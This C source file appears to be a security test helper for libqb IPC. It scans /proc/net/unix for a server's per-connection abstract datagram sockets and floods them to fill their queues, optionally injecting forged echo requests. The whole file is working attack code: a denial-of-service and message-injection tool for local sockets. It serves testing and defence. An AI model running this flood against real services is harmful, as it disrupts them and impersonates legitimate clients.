/*
 * dgram-flood.c -- another user's attack on SOCKET connections: watches
 * /proc/net/unix for the abstract datagram sockets a server binds for its
 * connections ("<dir>/qb-<service>-request" and "...-event-tx") and sends
 * datagrams to them as fast as it can, to fill their queues
 * (net.unix.max_dgram_qlen) before the server connects them to the client.
 *
 * Usage: dgram-flood SUBSTRING [valid]
 *   SUBSTRING  only names that contain it are attacked (the service name)
 *   valid      send well-formed echo requests (id 1, size 16 + 8, payload
 *              "INJECTED"), to see whether a server takes them as the
 *              client's; default: 24 zero bytes
 *
 * stdout: "ready" once started; "full NAME" the first time a send to NAME
 * found its queue full (EAGAIN); "refused NAME" when the kernel refused a
 * send (EPERM: the socket is connected to someone else; NAME is then left
 * alone); on SIGTERM/SIGINT one line
 *   "sent=N eagain=N eperm=N gone=N targets=N"
 * (gone: the name no longer existed). No libqb.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <sys/un.h>

#define MAX_TARGETS	4096
#define SENDS_PER_SCAN	64
#define MAX_SECONDS	300

struct target {
	struct sockaddr_un addr;
	int alive;
	int full;
};

static volatile sig_atomic_t stop;
static struct target targets[MAX_TARGETS];
static int ntargets;
static unsigned long long sent, eagain, eperm, gone;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

static int known(const char *name)
{
	int i;

	for (i = 0; i < ntargets; i++) {
		if (strcmp(targets[i].addr.sun_path + 1, name) == 0) {
			return 1;
		}
	}
	return 0;
}

static int ends_with(const char *s, const char *tail)
{
	size_t n = strlen(s), m = strlen(tail);

	return n >= m && strcmp(s + n - m, tail) == 0;
}

/* Adds the abstract names of /proc/net/unix that contain `match` and end in -request or -event-tx. */
static void scan(const char *match)
{
	static char buf[1 << 20];
	ssize_t n, total = 0;
	char *line, *save = NULL;
	int fd = open("/proc/net/unix", O_RDONLY | O_CLOEXEC);

	if (fd < 0) {
		return;
	}
	while (total < (ssize_t)sizeof(buf) - 1 && (n = read(fd, buf + total, sizeof(buf) - 1 - (size_t)total)) > 0) {
		total += n;
	}
	close(fd);
	buf[total] = '\0';
	for (line = strtok_r(buf, "\n", &save); line != NULL; line = strtok_r(NULL, "\n", &save)) {
		char *at = strchr(line, '@');
		size_t len;

		if (at == NULL || strstr(at, match) == NULL) {
			continue;
		}
		/* Abstract names print NULs as '@': the padding of a full-size address. */
		len = strlen(at);
		while (len > 1 && at[len - 1] == '@') {
			at[--len] = '\0';
		}
		if ((!ends_with(at, "-request") && !ends_with(at, "-event-tx")) || known(at + 1) ||
		    ntargets == MAX_TARGETS || len - 1 > sizeof(targets[0].addr.sun_path) - 2) {
			continue;
		}
		memset(&targets[ntargets].addr, 0, sizeof(targets[ntargets].addr));
		targets[ntargets].addr.sun_family = AF_UNIX;
		memcpy(targets[ntargets].addr.sun_path + 1, at + 1, len - 1);
		targets[ntargets].alive = 1;
		targets[ntargets].full = 0;
		ntargets++;
	}
}

int main(int argc, char **argv)
{
	unsigned char msg[24];
	int sock, i, j;
	pid_t parent;

	if (argc < 2 || argc > 3) {
		fprintf(stderr, "usage: dgram-flood SUBSTRING [valid]\n");
		return 2;
	}
	memset(msg, 0, sizeof(msg));
	if (argc == 3 && strcmp(argv[2], "valid") == 0) {
		int32_t id = 1, size = (int32_t)sizeof(msg);

		memcpy(msg, &id, 4);
		memcpy(msg + 8, &size, 4);
		memcpy(msg + 16, "INJECTED", 8);
	}
	signal(SIGTERM, on_signal);
	signal(SIGINT, on_signal);
	signal(SIGALRM, on_signal);
	alarm(MAX_SECONDS);
	parent = getppid();
	sock = socket(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (sock < 0) {
		perror("socket");
		return 1;
	}
	printf("ready\n");
	fflush(stdout);
	while (!stop) {
		if (getppid() != parent) {
			break; /* orphaned: whoever would stop us is gone */
		}
		scan(argv[1]);
		for (j = 0; j < SENDS_PER_SCAN && !stop; j++) {
			for (i = 0; i < ntargets; i++) {
				if (!targets[i].alive) {
					continue;
				}
				if (sendto(sock, msg, sizeof(msg), MSG_DONTWAIT | MSG_NOSIGNAL,
					   (struct sockaddr *)&targets[i].addr, sizeof(targets[i].addr)) == (ssize_t)sizeof(msg)) {
					sent++;
				} else if (errno == EAGAIN) {
					eagain++;
					if (!targets[i].full) {
						targets[i].full = 1;
						printf("full %s\n", targets[i].addr.sun_path + 1);
						fflush(stdout);
					}
				} else if (errno == EPERM) {
					eperm++;
					targets[i].alive = 0;
					printf("refused %s\n", targets[i].addr.sun_path + 1);
					fflush(stdout);
				} else {
					gone++;
					targets[i].alive = 0;
				}
			}
		}
	}
	printf("sent=%llu eagain=%llu eperm=%llu gone=%llu targets=%d\n", sent, eagain, eperm, gone, ntargets);
	fflush(stdout);
	return 0;
}
